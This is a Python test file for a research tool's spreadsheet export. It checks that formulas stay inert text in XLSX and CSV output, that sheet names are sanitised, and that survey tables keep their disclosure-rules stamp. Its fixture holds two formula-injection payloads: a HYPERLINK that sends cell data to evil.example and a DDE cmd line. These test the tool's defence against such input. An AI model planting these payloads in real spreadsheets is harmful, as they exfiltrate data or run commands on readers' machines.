"""XLSX and CSV export of analysis tables: formulas stay text, sheet names are safe."""

from __future__ import annotations

import io
import zipfile

import openpyxl
import pytest

from techforce.disclosure import RULE_SETS
from techforce.errors import Invalid
from techforce.research.export import sheet_name, to_csv, to_xlsx
from techforce.research.records import Table
from techforce.research.survey_tables import item_table
from techforce.research.surveys import Item, Respondent, Survey

HOSTILE = '=HYPERLINK("http://evil.example/?d="&A1,"click")'
TABLE = Table(
    "Quotes",
    ("quote", "speaker", "segments"),
    ((HOSTILE, "P01", 3), ("+cmd|' /C calc'!A0", "P02\x07", 0), ("#N/A", "P03", None)),
    ("Attribution: institution; k = 3.",),
)


def test_xlsx_opens_and_formulas_are_text() -> None:
    data = to_xlsx([("Quotes", TABLE), ("Quotes", TABLE)])
    wb = openpyxl.load_workbook(io.BytesIO(data))
    assert wb.sheetnames == ["Quotes", "Quotes (2)"]
    ws = wb["Quotes"]
    assert [c.value for c in ws[1]] == ["quote", "speaker", "segments"]
    assert all(c.font.bold for c in ws[1])
    assert ws["A2"].value == HOSTILE and ws["A2"].data_type == "s"
    assert ws["C2"].value == 3 and ws["B3"].value == "P02"  # control character dropped
    assert ws["A4"].value == "#N/A" and ws["A4"].data_type == "s"  # text, not an error value
    assert ws["A6"].value == "Attribution: institution; k = 3."
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        sheets = [n for n in zf.namelist() if n.startswith("xl/worksheets/sheet")]
        assert sheets and all(b"<f>" not in zf.read(n) and b"<f " not in zf.read(n) for n in sheets)


def test_sheet_names_are_valid_and_unique() -> None:
    taken: set[str] = set()
    assert sheet_name("Codes [by case]: a/b?", taken) == "Codes _by case__ a_b_"
    long = sheet_name("x" * 40, taken)
    assert len(long) == 31
    again = sheet_name("x" * 40, taken)
    assert len(again) == 31 and again.endswith(" (2)")
    assert sheet_name("'History'", taken) == "History_"
    assert sheet_name("", taken) == "Sheet"
    assert sheet_name("sheet", taken) == "sheet (2)"


def test_survey_table_exports_with_its_stamp() -> None:
    people = [Respondent(f"R{i}", {"inst": "Leeds"}, {"Q1": 1 + i % 5}) for i in range(40)]
    survey = Survey(people, [Item("inst", "attribute"), Item("Q1", "likert", ["1", "2", "3", "4", "5"])])
    table = item_table(survey, "Q1", "inst", key=b"k", rules=RULE_SETS["hesa-standard"])
    ws = openpyxl.load_workbook(io.BytesIO(to_xlsx([("Q1 by inst", table)]))).active
    assert ws is not None
    assert ws.cell(1, ws.max_column).value == "rules"
    assert ws.cell(2, ws.max_column).value == "hesa-standard@v2+ckm-3"
    assert "hesa-standard@v2+ckm-3" in to_csv(table)


def test_csv_neutralises_formulas_and_keeps_header_of_empty_table() -> None:
    text = to_csv(TABLE)
    assert text.splitlines()[0] == "quote,speaker,segments"
    assert "'=HYPERLINK" in text and "'+cmd" in text
    empty = Table("Nothing", ("=code", "cases"), ())
    assert to_csv(empty) == "'=code,cases\r\n"


def test_nothing_to_export() -> None:
    with pytest.raises(Invalid, match="at least one table"):
        to_xlsx([])
